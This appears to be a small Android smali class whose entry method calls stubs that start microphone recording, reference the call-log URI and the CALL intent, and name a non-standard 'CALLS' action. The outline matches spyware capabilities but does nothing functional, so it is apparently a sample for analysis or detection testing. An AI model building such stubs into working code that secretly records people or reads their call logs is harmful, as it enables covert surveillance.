.class public La/Main;
.super Ljava/lang/Object;

.field static m:Landroid/media/AudioRecord;

.method public static entry()V
    .locals 0
    invoke-static {}, La/Main;->mic()V
    invoke-static {}, La/Main;->log()V
    invoke-static {}, La/Main;->dial()V
    invoke-static {}, La/Main;->near()V
    return-void
.end method

.method public static mic()V
    .locals 3
    sget-object v0, La/Main;->m:Landroid/media/AudioRecord;
    invoke-virtual {v0}, Landroid/media/AudioRecord;->startRecording()V
    return-void
.end method

.method public static log()V
    .locals 3
    const-string v0, "content://call_log/calls"
    return-void
.end method

.method public static dial()V
    .locals 3
    const-string v0, "android.intent.action.CALL"
    return-void
.end method

.method public static near()V
    .locals 3
    const-string v0, "android.intent.action.CALLS"
    return-void
.end method
